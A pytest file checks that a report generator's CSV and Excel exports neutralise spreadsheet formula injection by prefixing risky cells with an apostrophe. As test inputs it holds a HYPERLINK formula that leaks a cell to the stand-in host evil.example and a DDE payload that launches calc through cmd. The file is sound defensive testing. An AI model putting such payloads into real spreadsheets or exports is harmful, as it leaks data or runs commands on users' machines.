"""Spreadsheet-safe exports (issue 15): no published CSV or workbook cell runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import shutil

import openpyxl
import pytest
from helpers import FIXTURE_DATA
from test_forms import check_read, filled_xlsx

from generator.build import report_rules
from generator.common.problems import Problems
from generator.inputs.load import load_inputs
from generator.inputs.reports import read_report
from generator.outputs import downloads, export
from generator.outputs.forms import (
    HEADER,
    FormSpec,
    _csv_bytes,
    draw,
    form_csv,
    form_spec,
    form_xlsx,
)
from generator.outputs.spreadsheet import safe_cell

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
"""What a hostile plan edit or note could put in a text cell."""


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"),
    (EVIL, "'" + EVIL),
    ("+86 519 8550", "'+86 519 8550"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- 整改中", "'- 整改中"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    # numbers, and "-" for no value, stay usable
    ("-3", "-3"), ("-2.5", "-2.5"), ("+4", "+4"), ("-50%", "-50%"), ("-1e3", "-1e3"),
    ("-", "-"), ("12", "12"), ("", ""), ("北港街道", "北港街道"), ("a=b", "a=b"),
    (-3, -3), (2.5, 2.5), (None, None), (dt.date(2023, 6, 25), dt.date(2023, 6, 25)),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


@pytest.fixture(scope="module")
def inputs(tmp_path_factory):
    """The fixture data with one of beigang's targets renamed to a formula."""
    data = shutil.copytree(FIXTURE_DATA, tmp_path_factory.mktemp("evil") / "data")
    plan = data / "plans/2023.yaml"
    text = plan.read_text(encoding="utf-8")
    line = next(line for line in text.splitlines() if "text: 12月底前，推动三级" in line)
    quoted = EVIL.replace("'", "''")
    plan.write_text(text.replace(line.strip(), f"text: '{quoted}'"), encoding="utf-8")
    return load_inputs(data)


def test_targets_csv_quotes_the_formula_and_keeps_numbers(inputs):
    rows = list(csv.DictReader(io.StringIO(
        export.targets_csv(inputs.catalog(2023)).decode("utf-8-sig"))))
    row = next(row for row in rows if row["id"] == "biaozhunhua-1a")
    assert row["text"] == "'" + EVIL
    assert row["metric_total"] == "94" and "beigang=25" in row["quotas"]


def test_a_csv_written_by_pandas_is_what_excel_opens():
    import pandas as pd

    frame = pd.DataFrame([["a-1", "=1+1", "-3"], ["b", 'say "hi", 你好\nnext', ""]],
                         columns=["id", "text", "value"], dtype=object)
    # BOM, CRLF between rows, quotes only around the cell with a quote, a comma or a newline
    # (its own "\n" kept), the formula neutralised, the number and the empty cell as they are
    assert export.spreadsheet_csv(frame) == (
        "\ufeffid,text,value\r\na-1,'=1+1,-3\r\n"
        'b,"say ""hi"", 你好\nnext",\r\n').encode("utf-8")
    assert export.spreadsheet_csv(frame.iloc[:0]) == "\ufeffid,text,value\r\n".encode("utf-8")


def risky_rows(spec: FormSpec) -> tuple[tuple, ...]:
    """The spec's rows with the first one's name, campaign and goal starting like formulas."""
    first = list(spec.rows[0])
    first[1:5] = ["@" + first[1], EVIL, "-", "+3 家"]
    return (tuple(first), *spec.rows[1:])


def test_form_csv_quotes_text_cells_and_is_read_back(inputs, tmp_path):
    catalog = inputs.catalog(2023)
    spec = form_spec(catalog, "beigang", 2023, 2)
    table = list(csv.reader(io.StringIO(
        _csv_bytes(risky_rows(spec), "beigang", "2023Q2").decode("utf-8-sig"))))
    assert table[1][:5] == [spec.rows[0][0], "'@" + spec.rows[0][1], "'" + EVIL, "-", "'+3 家"]
    for line in table[1:]:
        line[HEADER.index("完成值")], line[HEADER.index("上报日期")] = "1", "2023-06-25"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(table)
    path = tmp_path / "2023Q2" / "beigang.csv"
    path.parent.mkdir()
    path.write_bytes(out.getvalue().encode("utf-8-sig"))
    problems = Problems()
    report = read_report(path, report_rules(inputs, dt.date(2024, 3, 31)), problems)
    assert [p.format() for p in problems.items] == []
    assert report is not None and len(report.rows) == len(spec.rows)


def test_form_xlsx_has_no_formula_and_a_filled_form_is_read_back(inputs, tmp_path):
    catalog = inputs.catalog(2023)
    spec = form_spec(catalog, "beigang", 2023, 2)
    data = draw(dataclasses.replace(spec, rows=risky_rows(spec)))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.value for cell in sheet[2]][1:5] == ["'@" + spec.rows[0][1], "'" + EVIL, "-",
                                                      "'+3 家"]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    filled, expected = filled_xlsx(data, catalog, "beigang")
    path = tmp_path / "2023Q2" / "beigang.xlsx"
    path.parent.mkdir()
    path.write_bytes(filled)
    check_read(path, report_rules(inputs, dt.date(2024, 3, 31)), expected, catalog)


def test_the_sites_forms_keep_the_plan_text_readable(inputs):
    """In the real forms the name is "1a. " + the text: it starts with a digit, shown as is."""
    catalog = inputs.catalog(2023)
    table = list(csv.reader(io.StringIO(form_csv(catalog, "beigang", 2023, 2).decode("utf-8-sig"))))
    row = next(row for row in table if row[0] == "biaozhunhua-1a")
    assert row[HEADER.index("指标名称")] == "1a. " + EVIL
    sheet = openpyxl.load_workbook(io.BytesIO(form_xlsx(catalog, "beigang", 2023, 2))).worksheets[0]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]


def test_page_download_csv_quotes_text_and_keeps_numbers():
    row = {key: "" for key, _ in downloads.FIELDS}
    row.update(text=EVIL, note="-cmd|' /C calc'!A0", actual="-3", quota="25", expected="-")
    table = list(csv.reader(io.StringIO(downloads._csv([row]).decode("utf-8-sig"))))
    shown = dict(zip([key for key, _ in downloads.FIELDS], table[1], strict=True))
    assert shown["text"] == "'" + EVIL and shown["note"] == "'-cmd|' /C calc'!A0"
    assert (shown["actual"], shown["quota"], shown["expected"]) == ("-3", "25", "-")
